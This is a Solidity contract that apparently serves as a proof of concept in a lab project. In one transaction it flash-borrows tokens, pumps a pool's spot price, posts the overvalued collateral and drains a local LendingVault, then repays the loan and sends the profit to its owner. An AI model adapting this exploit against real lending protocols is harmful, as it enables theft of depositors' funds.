// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IFlashLoanSimpleReceiver} from "./interfaces/IFlashLoanSimpleReceiver.sol";
import {FlashLender} from "./FlashLender.sol";
import {SimplePair} from "./SimplePair.sol";
import {LendingVault} from "./LendingVault.sol";

/// @title Attacker
/// @notice Spot-price oracle manipulation exploit against LendingVault, done
///         in ONE transaction (`attack`):
///   1. flash-borrow `flashAmount` of token A (USDX) from FlashLender;
///   2. swap `swapAmount` A -> B (WETHX) in SimplePair: B's spot price jumps;
///   3. deposit all the B as collateral in LendingVault (now hugely overvalued);
///   4. borrow min(maxBorrow, vault liquidity) of A — i.e. drain the vault;
///   5. approve FlashLender for amount + premium (it pulls the repayment);
///   6. after the loan closes, send all remaining A (the profit) to the owner.
/// If the vault is paused, step 3 reverts with `EnforcedPause()` and the whole
/// transaction reverts (the error bubbles up through FlashLender).
contract Attacker is IFlashLoanSimpleReceiver {
    using SafeERC20 for IERC20;

    address public immutable owner;
    FlashLender public immutable lender;
    SimplePair public immutable pair;
    LendingVault public immutable vault;
    IERC20 public immutable tokenA; // borrowed asset (USDX)
    IERC20 public immutable tokenB; // collateral asset (WETHX)

    event AttackExecuted(uint256 flashAmount, uint256 swapAmount, uint256 collateral, uint256 borrowed, uint256 profit);

    constructor(FlashLender lender_, SimplePair pair_, LendingVault vault_) {
        owner = msg.sender;
        lender = lender_;
        pair = pair_;
        vault = vault_;
        tokenA = vault_.asset();
        tokenB = vault_.collateralToken();
    }

    /// @notice Run the whole exploit. `swapAmount` <= `flashAmount`.
    /// @return profit token A sent to the owner.
    function attack(uint256 flashAmount, uint256 swapAmount) external returns (uint256 profit) {
        require(msg.sender == owner, "Attacker: NOT_OWNER");
        require(swapAmount > 0 && swapAmount <= flashAmount, "Attacker: BAD_AMOUNTS");

        lender.flashLoanSimple(address(this), address(tokenA), flashAmount, abi.encode(swapAmount), 0);

        profit = tokenA.balanceOf(address(this));
        require(profit > 0, "Attacker: NOT_PROFITABLE");
        tokenA.safeTransfer(owner, profit);
        emit AttackExecuted(flashAmount, swapAmount, vault.collateralOf(address(this)), vault.debtOf(address(this)), profit);
    }

    /// @inheritdoc IFlashLoanSimpleReceiver
    function executeOperation(address asset, uint256 amount, uint256 premium, address initiator, bytes calldata params)
        external
        returns (bool)
    {
        require(msg.sender == address(lender) && initiator == address(this), "Attacker: UNTRUSTED_CALLBACK");
        require(asset == address(tokenA), "Attacker: WRONG_ASSET");
        uint256 swapAmount = abi.decode(params, (uint256));

        // 2. Pump B's spot price.
        tokenA.forceApprove(address(pair), swapAmount);
        uint256 bOut = pair.swapExactIn(address(tokenA), swapAmount, 0, address(this));

        // 3. Post the (now overvalued) B as collateral.
        tokenB.forceApprove(address(vault), bOut);
        vault.depositCollateral(bOut);

        // 4. Borrow as much A as the vault holds / allows.
        uint256 maxDebt = vault.maxBorrow(address(this));
        uint256 liquidity = vault.availableLiquidity();
        uint256 toBorrow = maxDebt < liquidity ? maxDebt : liquidity;
        vault.borrow(toBorrow);

        // 5. Let the lender pull back amount + premium.
        uint256 owed = amount + premium;
        require(tokenA.balanceOf(address(this)) >= owed, "Attacker: CANNOT_REPAY");
        tokenA.forceApprove(address(lender), owed);
        return true;
    }
}
